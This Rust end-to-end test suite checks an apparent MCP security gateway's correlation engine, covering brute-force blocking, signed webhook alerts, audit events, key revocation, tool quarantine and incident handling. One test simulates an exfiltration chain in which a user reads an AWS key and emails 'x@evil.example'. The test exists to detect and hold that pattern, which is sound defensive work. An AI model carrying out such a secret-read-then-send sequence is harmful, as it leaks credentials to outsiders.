//! The correlation engine through the real gateway, with the shipped rules: a scripted
//! brute force blocks the address, sends a signed webhook alert and leaves an audit event
//! per action; an exfiltration chain (a secret read, then an email) puts the principal's
//! further calls under human approval; the same calls spread out, or without the secret,
//! fire nothing.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

use axum::body::Bytes;
use axum::http::HeaderMap;
use common::{python_stdio_server, yaml_str};
use sallyport_e2e::{
    GatewayProc, TEST_WEBHOOK_SECRET, TEST_WEBHOOK_SECRET_ENV, create_api_key, modern_tool_call_as,
    sallyport_bin,
};
use serde_json::{Value, json};

const BAD_KEY: &str = "sp_deadbeef_notarealkeynotarealkeynotarealkey00";

/// Requests the webhook receiver got: `(verified, body)`.
type Received = Arc<Mutex<Vec<(bool, Value)>>>;

/// A webhook receiver on 127.0.0.1 that checks each request's HMAC signature.
async fn webhook_receiver() -> (String, Received) {
    let received: Received = Arc::default();
    let sink = received.clone();
    let app = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |headers: HeaderMap, body: Bytes| {
            let sink = sink.clone();
            async move {
                let header = |n: &str| headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or("");
                let verified = sallyport_notify::verify_signature(
                    TEST_WEBHOOK_SECRET.as_bytes(),
                    header(sallyport_notify::TIMESTAMP_HEADER),
                    &body,
                    header(sallyport_notify::SIGNATURE_HEADER),
                    std::time::SystemTime::now(),
                    sallyport_notify::DEFAULT_TOLERANCE,
                )
                .is_ok();
                let json: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                sink.lock().unwrap().push((verified, json));
                "ok"
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, received)
}

/// API-key auth, two upstreams (`w`: the clean threat fixture, `mail`: `send_email`),
/// detection (secrets in results are redacted), the shipped correlation rules, a webhook
/// sink, approvals answered at once, and a SQLite audit trail.
fn config(dir: &Path, hook: &str, extra: &str) -> String {
    std::fs::write(
        dir.join("hmac.secret"),
        "0123456789abcdef0123456789abcdef-test-secret\n",
    )
    .unwrap();
    let servers = format!(
        "{}{}",
        python_stdio_server("w", "threat_server.py", &["--set", "clean"]),
        python_stdio_server("mail", "threat_server.py", &["--set", "mail"])
    );
    let d = dir.display();
    format!(
        "servers:\n{servers}auth:\n  api_keys: {{ store_path: {keys}, hmac_secret: {{ type: file, path: {secret} }} }}\n\
         detect:\n  pinning: {{ store: {pins} }}\n\
         {correlation}\
         notifications:\n  sinks:\n    - {{ name: soc, kind: webhook, url: \"{hook}\", secret_env: {TEST_WEBHOOK_SECRET_ENV}, min_severity: warning, initial_backoff_ms: 50 }}\n\
         approvals: {{ store: {approvals}, wait_secs: 0 }}\n\
         incidents: {{ store: {incidents} }}\n\
         {extra}audit:\n  store: {{ type: sqlite, path: \"{d}/audit.db\" }}\n  signing_key: \"{d}/audit.pk8\"\n  public_key: \"{d}/audit.pub.pem\"\n  durability: {{ mode: sync }}\n",
        correlation = if extra.contains("correlation:") {
            ""
        } else {
            "correlation: {}\n"
        },
        keys = yaml_str(&dir.join("keys.json").display().to_string()),
        secret = yaml_str(&dir.join("hmac.secret").display().to_string()),
        pins = yaml_str(&dir.join("pins.db").display().to_string()),
        approvals = yaml_str(&dir.join("approvals.db").display().to_string()),
        incidents = yaml_str(&dir.join("incidents.db").display().to_string()),
    )
}

async fn gateway(hook: &str, names: &[&str]) -> (GatewayProc, Vec<String>) {
    gateway_with(hook, names, "").await
}

/// [`gateway`] with `extra` sections.
async fn gateway_with(hook: &str, names: &[&str], extra: &str) -> (GatewayProc, Vec<String>) {
    let keys = Mutex::new(Vec::new());
    let gw = GatewayProc::start_prepared(
        |_, dir| config(dir, hook, extra),
        |config| {
            let mut k = keys.lock().unwrap();
            for name in names {
                k.push(create_api_key(config, name, "mcp_operator"));
            }
        },
    )
    .await;
    (gw, keys.into_inner().unwrap())
}

async fn call(gw: &GatewayProc, key: &str, id: u32, tool: &str, args: Value) -> (u16, Value) {
    let (status, body) = modern_tool_call_as(&gw.mcp_url(), Some(key), json!(id), tool, args).await;
    (status.as_u16(), body)
}

/// `sallyport incidents ARGS -c CONFIG`; stdout, failing the test on a non-zero exit.
fn incidents_cli(gw: &GatewayProc, args: &[&str]) -> String {
    let out = Command::new(sallyport_bin())
        .arg("incidents")
        .args(args)
        .arg("-c")
        .arg(&gw.config)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The audit trail as JSON Lines, through `sallyport audit export`.
fn audit_events(gw: &GatewayProc) -> Vec<Value> {
    let out = Command::new(sallyport_bin())
        .args(["audit", "export", "--format", "jsonl", "-c"])
        .arg(&gw.config)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .map(|entry| entry.get("event").cloned().unwrap_or(entry))
        .collect()
}

async fn wait_for_webhook(received: &Received, rule: &str) -> (bool, Value) {
    for _ in 0..100 {
        if let Some(hit) = received
            .lock()
            .unwrap()
            .iter()
            .find(|(_, body)| body["rule_id"] == rule)
            .cloned()
        {
            return hit;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("no webhook for {rule}: {:?}", received.lock().unwrap());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_scripted_brute_force_is_blocked_notified_and_audited() {
    let (hook, received) = webhook_receiver().await;
    let (gw, keys) = gateway(&hook, &["alice"]).await;
    let alice = &keys[0];
    let args = json!({"path": "notes/today.md"});
    // Nine failures (under the rule's ten): the valid key still works.
    for id in 0..9 {
        assert_eq!(
            call(&gw, BAD_KEY, id, "w__read_file", args.clone()).await.0,
            401
        );
    }
    let (status, body) = call(&gw, alice, 100, "w__read_file", args.clone()).await;
    assert_eq!(status, 200, "{body}");
    // The tenth failure within the minute fires `brute_force`: the address is blocked.
    assert_eq!(
        call(&gw, BAD_KEY, 9, "w__read_file", args.clone()).await.0,
        401
    );
    gw.wait_log("Correlation rule fired").await;
    let (status, body) = call(&gw, alice, 101, "w__read_file", args).await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(body["error"]["code"], -32019, "{body}");

    // The alert reached the webhook, signed with the shared secret.
    let (verified, alert) = wait_for_webhook(&received, "brute_force").await;
    assert!(verified, "the signature verifies: {alert}");
    assert_eq!(alert["severity"], "high", "{alert}");
    assert_eq!(alert["mitre"], json!(["T1110"]), "{alert}");
    assert!(alert.to_string().contains("127.0.0.1"), "{alert}");

    // Every action is an audit event.
    let events = audit_events(&gw);
    let actions: Vec<&Value> = events
        .iter()
        .filter(|e| e["event_type"] == "response_action")
        .collect();
    let names: Vec<&str> = actions
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert!(
        names.contains(&"block_ip") && names.contains(&"alert"),
        "{actions:?}"
    );
    let block = actions.iter().find(|e| e["action"] == "block_ip").unwrap();
    assert_eq!(block["outcome"], "success", "{block}");
    assert!(
        block["reason"]
            .as_str()
            .unwrap()
            .contains("correlation rule brute_force"),
        "{block}"
    );
    assert_eq!(block["source_ip"], "127.0.0.1", "{block}");

    // The alert opened an incident for the address; the notification names it, and the
    // operator acknowledges and resolves it.
    let open: Vec<Value> = serde_json::from_str(&incidents_cli(&gw, &["list", "--json"])).unwrap();
    assert_eq!(open.len(), 1, "{open:?}");
    let incident = &open[0];
    assert_eq!(incident["key"], "source_ip=127.0.0.1", "{incident}");
    assert_eq!(incident["rules"], json!(["brute_force"]), "{incident}");
    assert_eq!(incident["state"], "open", "{incident}");
    assert_eq!(alert["incident_id"], incident["id"], "{alert}");
    let id = incident["id"].as_str().unwrap();
    assert!(incidents_cli(&gw, &["ack", id, "--by", "olga"]).starts_with("Acknowledged"));
    incidents_cli(&gw, &["resolve", id, "--by", "olga", "--note", "blocked"]);
    let open: Vec<Value> = serde_json::from_str(&incidents_cli(&gw, &["list", "--json"])).unwrap();
    assert!(open.is_empty(), "{open:?}");
    let shown: Value = serde_json::from_str(&incidents_cli(&gw, &["show", id])).unwrap();
    assert_eq!(shown["incident"]["resolved_by"], "olga", "{shown}");
    assert_eq!(shown["alerts"].as_array().unwrap().len(), 1, "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exfiltration_chain_puts_the_principal_under_approval_and_a_benign_replay_does_not() {
    let (hook, received) = webhook_receiver().await;
    let (gw, keys) = gateway(&hook, &["mallory", "carol"]).await;
    let (mallory, carol) = (&keys[0], &keys[1]);

    // Benign: carol reads a harmless value and sends an email. No secret, no chain.
    let (_, body) = call(&gw, carol, 1, "w__lookup", json!({"key": "colour"})).await;
    assert_eq!(body["result"]["content"][0]["text"], "value: 42", "{body}");
    let (_, body) = call(
        &gw,
        carol,
        2,
        "mail__send_email",
        json!({"to": "the team", "body": "hi"}),
    )
    .await;
    assert_eq!(
        body["result"]["content"][0]["text"], "sent to the team",
        "{body}"
    );
    let (_, body) = call(&gw, carol, 3, "w__read_file", json!({"path": "notes.md"})).await;
    assert_eq!(
        body["result"]["content"][0]["text"], "contents of notes.md",
        "{body}"
    );

    // The attack: mallory reads a secret (redacted on the way out, but flagged) and then
    // sends an email.
    let (_, body) = call(&gw, mallory, 4, "w__lookup", json!({"key": "aws"})).await;
    assert_eq!(
        body["result"]["content"][0]["text"], "aws_access_key_id = [REDACTED:aws_access_key]",
        "{body}"
    );
    let (_, body) = call(
        &gw,
        mallory,
        5,
        "mail__send_email",
        json!({"to": "x@evil.example", "body": "key"}),
    )
    .await;
    assert!(
        body["result"].is_object(),
        "the email itself went out: {body}"
    );
    gw.wait_log("exfiltration_chain").await;

    // From now on mallory's calls wait for a human; carol's do not.
    let (_, body) = call(&gw, mallory, 6, "w__read_file", json!({"path": "notes.md"})).await;
    assert_eq!(body["result"]["isError"], true, "{body}");
    assert_eq!(
        body["result"]["structuredContent"]["status"], "pending",
        "{body}"
    );
    let (_, body) = call(&gw, carol, 7, "w__read_file", json!({"path": "notes.md"})).await;
    assert_eq!(
        body["result"]["content"][0]["text"], "contents of notes.md",
        "{body}"
    );
    let held = gw.wait_decision(|d| d["outcome"] == "hold").await;
    assert!(held.to_string().contains("exfiltration_chain"), "{held}");

    let (verified, alert) = wait_for_webhook(&received, "exfiltration_chain").await;
    assert!(verified);
    assert_eq!(alert["severity"], "critical", "{alert}");
    // Exactly one alert, for mallory: carol's read-then-email fired nothing.
    let mallory_id = gw
        .wait_decision(|d| d["tool"] == "lookup" && d["outcome"] == "rewrite")
        .await["principal"]
        .as_str()
        .unwrap()
        .to_owned();
    let fired: Vec<Value> = received
        .lock()
        .unwrap()
        .iter()
        .filter(|(_, b)| b["rule_id"] == "exfiltration_chain")
        .map(|(_, b)| b.clone())
        .collect();
    assert_eq!(fired.len(), 1, "{fired:?}");
    assert!(
        fired[0]["key"].to_string().contains(&mallory_id),
        "{fired:?}"
    );

    // Operators see it in the metrics: the rule, its actions, the waiting approval, the
    // notification.
    gw.wait_metric(
        "sallyport_correlation_alerts_total{rule=\"exfiltration_chain\",severity=\"critical\"}",
        1.0,
    )
    .await;
    gw.wait_metric(
        "sallyport_response_actions_total{action=\"require_approval\",status=\"done\"}",
        1.0,
    )
    .await;
    gw.wait_metric("sallyport_approvals_pending", 1.0).await;
    gw.wait_metric(
        "sallyport_notifications_total{sink=\"soc\",result=\"sent\"}",
        1.0,
    )
    .await;
}

/// A rule with `revoke_key`: the principal's API keys are revoked the moment it fires, so its
/// next call is refused at the edge (401) while another principal's key still works. Without
/// the action the same calls keep working (the rule only alerts).
#[tokio::test(flavor = "multi_thread")]
async fn revoke_key_revokes_the_principals_api_keys_at_once() {
    for revoke in [false, true] {
        let (hook, _received) = webhook_receiver().await;
        let actions = if revoke {
            "[ { type: alert }, { type: revoke_key } ]"
        } else {
            "[ { type: alert } ]"
        };
        let extra = format!(
            "correlation:\n  include_default_rules: false\n  rules:\n    - id: hammering\n      title: Hammering one tool\n      severity: high\n      window_secs: 60\n      group_by: [principal]\n      condition: {{ type: threshold, match: {{ kind: tool_call }}, count: 3 }}\n      actions: {actions}\n"
        );
        let (gw, keys) = gateway_with(&hook, &["mallory", "carol"], &extra).await;
        let (mallory, carol) = (&keys[0], &keys[1]);
        for id in 1..=3 {
            let (status, body) =
                call(&gw, mallory, id, "w__get_weather", json!({"city": "Oslo"})).await;
            assert_eq!(status, 200, "call {id}: {body}");
        }
        // The rule fired on the third call; give the orchestrator its moment.
        let mut refused = false;
        for _ in 0..50 {
            let (status, _) =
                call(&gw, mallory, 9, "w__get_weather", json!({"city": "Oslo"})).await;
            if status == 401 {
                refused = true;
                break;
            }
            if !revoke {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert_eq!(refused, revoke, "revoke_key configured: {revoke}");
        let (status, body) = call(&gw, carol, 10, "w__get_weather", json!({"city": "Oslo"})).await;
        assert_eq!(status, 200, "another principal is untouched: {body}");
        if revoke {
            let events = audit_events(&gw);
            assert!(
                events.iter().any(|e| e["event_type"] == "response_action"
                    && e.to_string().contains("revoke_key")),
                "the revocation is audited"
            );
        }
    }
}

/// A rule with `quarantine_tool`: once it fires, every call to that server's tool is
/// refused (`tool_quarantined`) while its other tools still work; an operator lifts the
/// quarantine through the admin API and the tool works again.
#[tokio::test(flavor = "multi_thread")]
async fn quarantine_tool_refuses_the_tool_until_an_operator_lifts_it() {
    use sallyport_e2e::admin::{ADMIN_TOKEN, AdminClient, admin_yaml};
    let (hook, _received) = webhook_receiver().await;
    let port = sallyport_e2e::free_port();
    let extra = format!(
        "correlation:\n  include_default_rules: false\n  rules:\n    - id: hammered_tool\n      title: One tool hammered\n      severity: high\n      window_secs: 60\n      group_by: [server, tool]\n      condition: {{ type: threshold, match: {{ kind: tool_call }}, count: 3 }}\n      actions: [ {{ type: quarantine_tool }} ]\n{}",
        admin_yaml(port)
    );
    let (gw, keys) = gateway_with(&hook, &["mallory"], &extra).await;
    let key = &keys[0];
    let admin = AdminClient::new(port, Some(ADMIN_TOKEN));
    admin.wait_ready().await;
    for id in 1..=3 {
        let (status, body) = call(&gw, key, id, "w__get_weather", json!({"city": "Oslo"})).await;
        assert_eq!(status, 200, "call {id}: {body}");
        assert!(body.get("result").is_some(), "call {id}: {body}");
    }
    let mut refused = Value::Null;
    for id in 10..60 {
        let (_, body) = call(&gw, key, id, "w__get_weather", json!({"city": "Oslo"})).await;
        if body.get("error").is_some() {
            refused = body;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        refused["error"]["message"]
            .to_string()
            .contains("quarantined"),
        "the hammered tool is refused: {refused}"
    );
    let (_, body) = call(&gw, key, 70, "w__lookup", json!({"key": "colour"})).await;
    assert_eq!(body["result"]["content"][0]["text"], "value: 42", "{body}");
    let listed = admin.get("/admin/quarantines").await.expect(200);
    assert_eq!(listed[0]["server"], "w", "{listed}");
    assert_eq!(listed[0]["tool"], "get_weather", "{listed}");
    admin
        .delete("/admin/quarantines?server=w&tool=get_weather")
        .await
        .expect(204);
    let (_, body) = call(&gw, key, 71, "w__get_weather", json!({"city": "Oslo"})).await;
    assert!(body.get("result").is_some(), "lifted: {body}");
}

#[test]
fn check_compiles_every_action_and_refuses_sinks_without_their_secret() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("sallyport.yaml");
    std::fs::write(
        &config,
        format!(
            "servers:\n{}correlation:\n  rules:\n    - id: quarantine_noisy_tool\n      title: Noisy tool\n      severity: high\n      window_secs: 60\n      group_by: [tool]\n      condition: {{ type: threshold, match: {{ kind: threat_detected }}, count: 3 }}\n      actions: [ {{ type: quarantine_tool }} ]\nnotifications:\n  sinks:\n    - {{ name: soc, kind: webhook, url: \"https://soc.example.com/h\", secret_env: SALLYPORT_TEST_UNSET_SECRET }}\n",
            sallyport_e2e::demo_stdio_server("demo")
        ),
    )
    .unwrap();
    let out = Command::new(sallyport_bin())
        .args(["check", "-c"])
        .arg(&config)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(
        stdout.contains("quarantine_noisy_tool)") && stdout.contains("✓ correlation: 8 rules"),
        "{stdout}"
    );
    assert!(
        stdout
            .contains("secret_env: environment variable `SALLYPORT_TEST_UNSET_SECRET` is not set"),
        "{stdout}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_security_events_alert_reaches_the_sinks_and_the_audit_trail() {
    let (hook, received) = webhook_receiver().await;
    let extra = "security_events:\n  authentication_failed: { threshold: 3, window_secs: 60, action: alert }\n";
    let (gw, _) = gateway_with(&hook, &["alice"], extra).await;
    for id in 0..3 {
        let (status, _) = call(&gw, BAD_KEY, id, "w__read_file", json!({"path": "a"})).await;
        assert_eq!(status, 401);
    }
    let (verified, alert) =
        wait_for_webhook(&received, "security_events.authentication_failed").await;
    assert!(verified, "{alert}");
    assert!(
        alert["summary"].as_str().unwrap().contains("3 within 60 s"),
        "{alert}"
    );
    let audited = audit_events(&gw)
        .into_iter()
        .find(|e| e["event_type"] == "response_action" && e["action"] == "alert")
        .expect("the alert is an audit event");
    assert!(
        audited["reason"]
            .as_str()
            .unwrap()
            .starts_with("security_events.authentication_failed threshold"),
        "{audited}"
    );
}
